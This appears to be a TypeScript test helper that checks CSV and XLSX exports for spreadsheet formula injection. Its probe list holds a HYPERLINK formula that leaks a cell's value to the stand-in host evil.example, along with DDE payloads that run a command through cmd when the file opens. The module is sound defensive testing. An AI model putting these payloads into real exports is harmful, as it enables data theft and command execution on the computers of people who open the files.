import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';

/** Values a hostile user types so that an exported cell runs as a formula when the file is opened. */
export const FORMULA_PROBES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const;

/** How a neutralised probe reads back from an .xlsx file (XML stores a carriage return as a line feed). */
export function neutralisedInXlsx(probe: string): string {
  return `'${probe}`.replace(/\r\n?/g, '\n');
}

/** Every text cell of every sheet, as exceljs reads it back. */
export async function workbookTexts(body: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (typeof v === 'string') texts.push(v);
        else if (v && typeof v === 'object' && 'richText' in v) texts.push(v.richText.map((r) => r.text).join(''));
        else if (v && typeof v === 'object' && 'hyperlink' in v) texts.push(String(v.text));
        else if (v && typeof v === 'object' && 'formula' in v) texts.push(`=${String(v.formula)}`);
      }),
    );
  }
  return texts;
}

/** Every cell of a CSV export (BOM removed), as a spreadsheet splits it. */
export function csvTexts(body: Buffer): string[] {
  return (parse(body.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
}

/** Cells a spreadsheet would run as a formula: what a neutralised export must not contain (a plain number such as -12.5 is not one). */
export function formulaCells(texts: string[]): string[] {
  return texts.filter((text) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text));
}

/**
 * What is wrong with an export holding every FORMULA_PROBES value, read back as `texts`: the
 * cells a spreadsheet would run as a formula, and the probes that do not read back neutralised.
 * Empty when the export is safe.
 */
export function unsafeProbeCells(texts: string[], format: 'csv' | 'xlsx'): string[] {
  const neutralised = (probe: string) => (format === 'csv' ? `'${probe}` : neutralisedInXlsx(probe));
  const missing = FORMULA_PROBES.map(neutralised).filter((cell) => !texts.includes(cell));
  return [...formulaCells(texts).map((cell) => `runs as a formula: ${cell}`), ...missing.map((cell) => `not found neutralised: ${cell}`)];
}
